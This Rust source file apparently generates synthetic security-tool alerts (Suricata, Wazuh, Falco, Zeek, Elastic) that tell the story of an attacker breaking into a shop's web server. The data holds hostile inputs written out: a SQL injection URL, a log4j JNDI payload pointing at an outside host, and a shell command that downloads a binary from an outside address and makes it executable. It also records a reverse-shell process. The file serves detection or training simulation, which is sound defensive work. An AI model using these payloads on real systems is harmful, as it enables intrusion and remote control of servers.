//! The shop's server falls.
//!
//! At night an address scans the shop; by day it comes back with SQL injection and log4j, which it shares with half of
//! the internet. What tells this one apart is an answer: the output of `id` in a response. After that nothing comes in
//! any more: a file appears, a web server starts a shell, a process talks to the outside, all evening.

use crate::catalogue::{DROPPED_BINARY, FILE_ADDED, ID_ROOT, LOG4J, UNION_SELECT};
use crate::company::SHOP;
use crate::dice::Dice;
use crate::formats::cef::{Threat, firewall_threat};
use crate::formats::ecs::{self, alert as elastic};
use crate::formats::falco::{self, Container, Process};
use crate::formats::suricata::{Class, Flow, Signature, alert, http, signature};
use crate::formats::wazuh::{self, Origin, Rule, from_log, rule};
use crate::formats::zeek::{Notice, host_notice};
use crate::json::Object;
use crate::moment::{Day, Moment};
use crate::outside::{SHOP_CONTROL, SHOP_CONTROL_NAME, WEB_ATTACKER};
use crate::record::{Record, Story};

const SITE: &str = "shop.halden.example";
const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; rv:102.0) Gecko/20100101 Firefox/102.0";

const NIKTO: Signature = signature(2002677, 13, "ET SCAN Nikto Web App Scan in Progress", Class::WebAttack);
const UPLOAD: Signature =
    signature(2017054, 2, "ET WEB_SERVER WebShell Generic - ELF File Uploaded", Class::BadUnknown);
const EMPTY_CERTIFICATE: Signature = signature(
    2023629,
    3,
    "ET INFO Suspicious Empty SSL Certificate - Observed in Cobalt Strike",
    Class::TrojanActivity,
);

const SQL_INJECTION: Rule =
    rule("31103", 7, "SQL injection attempt.", &["web", "accesslog", "attack", "sql_injection"], &["T1190"]);

const SHELL_FROM_WEB: falco::Rule = falco::Rule {
    name: "Web Server Spawned Shell",
    priority: "Critical",
    output: "Web server spawned shell",
    call: "execve",
    tags: &[
        "maturity_sandbox",
        "host",
        "container",
        "process",
        "mitre_persistence",
        "mitre_execution",
        "T1505.003",
    ],
};
const REDIRECTED: falco::Rule = falco::Rule {
    name: "Redirect STDOUT/STDIN to Network Connection in Container",
    priority: "Notice",
    output: "Redirect stdout/stdin to network connection",
    call: "dup2",
    tags: &["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
};
const STOREFRONT: Container = Container {
    id: "e8b41f6d0a93",
    name: "storefront",
    image: "registry.halden.example/storefront",
    tag: "5.3.1",
    pod: None,
};

const BEACONING: ecs::Rule = ecs::rule(
    "Statistical Model Detected C2 Beaconing Activity",
    "5397080f-34e5-449b-8e9c-4c8083d7ccc6",
    "query",
    21,
    "T1071.001",
);

pub(super) fn records(dice: &mut Dice, day: Day) -> Vec<Record> {
    let mut records = knocking(dice, day);
    records.extend(inside(dice, day));
    records.extend(calling_home(dice, day));
    records
}

fn knocking(dice: &mut Dice, day: Day) -> Vec<Record> {
    let tell = |record: Record, what| record.telling(Story::WebShell, SHOP.name, what);
    let mut records = Vec::new();

    let at = day.around(dice, 1, 8, 19);
    let message = format!("{WEB_ATTACKER} scanned at least 15 unique ports of host {} in 2m11s", SHOP.ip);
    let notice = Notice { note: "Scan::Port_Scan", message, sub: Some("remote".to_owned()) };
    records.push(tell(host_notice(at, Some(WEB_ATTACKER), notice), "port scan"));

    let at = day.around(dice, 1, 12, 3);
    let record = request(dice, at, &NIKTO, "/admin/config.php", 404);
    records.push(tell(record, "web scan"));

    let at = day.around(dice, 11, 2, 36);
    let record = request(
        dice,
        at,
        &UNION_SELECT,
        "/catalogue?id=7%20UNION%20SELECT%20user,password%20FROM%20mysql.user",
        500,
    );
    records.push(tell(record, "SQL injection attempt"));

    let at = day.around(dice, 11, 2, 37);
    let line = format!(
        "{WEB_ATTACKER} - - [{}] \"GET /catalogue?id=7%20UNION%20SELECT%20user,password%20FROM%20mysql.user \
         HTTP/1.1\" 500 612 \"-\" \"{AGENT}\"",
        at.text("%d/%b/%Y:%H:%M:%S +0000")
    );
    let data = Object::new()
        .with("protocol", "GET")
        .with("srcip", WEB_ATTACKER)
        .with("id", "500")
        .with("url", "/catalogue?id=7%20UNION%20SELECT%20user,password%20FROM%20mysql.user");
    let origin = from_log("web-accesslog", "/var/log/nginx/access.log", line);
    let record = wazuh::alert(dice, at, &SHOP, &SQL_INJECTION, data, origin);
    records.push(tell(record, "the same, in the server's log"));

    let at = day.around(dice, 11, 20, 5);
    let record = request(dice, at, &LOG4J, "/search?q=${jndi:ldap://203.0.113.90:1389/Basic}", 200);
    records.push(tell(record, "log4j attempt, answered with 200"));

    let at = day.around(dice, 11, 20, 6);
    let threat = Threat {
        threat: "Apache Log4j Remote Code Execution Vulnerability(91991)",
        severity: 5,
        category: "code-execution",
        source: WEB_ATTACKER,
        destination: (SHOP.ip, 443),
        app: "web-browsing",
        user: None,
        action: "alert",
        request: Some("shop.halden.example/search"),
        count: 1,
    };
    records.push(tell(firewall_threat(dice, at, &threat), "the firewall saw it, and let it pass"));
    records
}

fn inside(dice: &mut Dice, day: Day) -> Vec<Record> {
    let tell = |record: Record, what| record.telling(Story::WebShell, SHOP.name, what);
    let mut records = Vec::new();

    let at = day.around(dice, 11, 47, 58);
    let flow = Flow::tcp(dice, WEB_ATTACKER, SHOP.ip, 80).speaking("http").answered();
    let more = Object::new().with("http", http(SITE, "/search?q=x", AGENT, "GET", 200));
    let record = alert(dice, at, &ID_ROOT, &flow, more);
    records.push(tell(record, "the answer holds `uid=0(root)`: the exploit worked"));

    let at = day.around(dice, 12, 5, 21);
    let flow = Flow::tcp(dice, WEB_ATTACKER, SHOP.ip, 80).speaking("http");
    let more = Object::new().with("http", http(SITE, "/uploads/thumb.php", AGENT, "POST", 200));
    let record = alert(dice, at, &UPLOAD, &flow, more);
    records.push(tell(record, "a program is uploaded through a web shell"));

    let at = day.around(dice, 12, 11, 0);
    let path = "/srv/storefront/uploads/thumb.php";
    let data = Object::new().with("path", path).with("event", "added").with("sha256_after", dice.hex(64));
    let line = format!("File '{path}' added\nMode: realtime\n");
    let origin = Origin { decoder: "syscheck_new_entry", location: "syscheck", full_log: Some(line) };
    let record = wazuh::alert(dice, at, &SHOP, &FILE_ADDED, data, origin);
    records.push(tell(record, "the web shell's file"));

    let shell = Process {
        name: "sh",
        path: "/usr/bin/dash",
        parent: "java",
        command: "sh -c curl -s http://203.0.113.90/u -o /tmp/.u && chmod +x /tmp/.u",
        user: ("root", 0),
        terminal: 0,
    };
    let at = day.around(dice, 12, 31, 9);
    let record = falco::event(dice, at, &SHOP, &SHELL_FROM_WEB, Some(&STOREFRONT), Object::new(), &shell);
    records.push(tell(record, "the web server starts a shell"));

    let reverse = Process {
        name: "bash",
        path: "/usr/bin/bash",
        parent: "sh",
        command: "bash -i",
        user: ("root", 0),
        terminal: 0,
    };
    let at = day.around(dice, 12, 33, 40);
    let port = dice.port();
    let first = Object::new()
        .with("fd.sip", SHOP_CONTROL)
        .with("fd.name", format!("172.18.0.4:{port}->{SHOP_CONTROL}:4443"))
        .with("fd.lport", port)
        .with("fd.rport", 4443_u16)
        .with("fd.type", "ipv4")
        .with("fd.l4proto", "tcp");
    let record = falco::event(dice, at, &SHOP, &REDIRECTED, Some(&STOREFRONT), first, &reverse);
    records.push(tell(record, "reverse shell to 203.0.113.90"));

    let implant = Process {
        name: ".u",
        path: "/tmp/.u",
        parent: "bash",
        command: "/tmp/.u --quiet",
        user: ("root", 0),
        terminal: 0,
    };
    let at = day.around(dice, 12, 40, 17);
    let first = Object::new().with("proc.cwd", "/tmp/");
    let record = falco::event(dice, at, &SHOP, &DROPPED_BINARY, Some(&STOREFRONT), first, &implant);
    records.push(tell(record, "a program that is not in the image"));
    records
}

fn calling_home(dice: &mut Dice, day: Day) -> Vec<Record> {
    let tell = |record: Record, what| record.telling(Story::WebShell, SHOP.name, what);
    let mut records = Vec::new();
    for (hour, minute) in [(13, 10), (19, 5)] {
        let at = day.around(dice, hour, minute, 33);
        let flow = Flow::tcp(dice, SHOP.ip, SHOP_CONTROL, 443).speaking("tls");
        let tls = Object::new().with("subject", "").with("sni", SHOP_CONTROL_NAME).with("version", "TLS 1.2");
        let record = alert(dice, at, &EMPTY_CERTIFICATE, &flow, Object::new().with("tls", tls));
        records.push(tell(record, "beacon to static-cdn.bluefinch.example"));
    }
    let at = day.around(dice, 16, 40, 2);
    let more = Object::new()
        .with("source", Object::new().with("ip", SHOP.ip))
        .with(
            "destination",
            Object::new().with("ip", SHOP_CONTROL).with("domain", SHOP_CONTROL_NAME).with("port", 443_u16),
        )
        .with("process", Object::new().with("name", ".u"));
    let reason = format!("network event with process .u on shop01 created alert {}.", BEACONING.name);
    let record = elastic(dice, at, &SHOP, &BEACONING, reason, more);
    records.push(tell(record, "the beacon's regularity, rated low"));
    records
}

fn request(dice: &mut Dice, at: Moment, rule: &Signature, url: &str, status: u16) -> Record {
    let flow = Flow::tcp(dice, WEB_ATTACKER, SHOP.ip, 80).speaking("http");
    let agent = if rule.id == NIKTO.id {
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
    } else {
        AGENT
    };
    alert(dice, at, rule, &flow, Object::new().with("http", http(SITE, url, agent, "GET", status)))
}
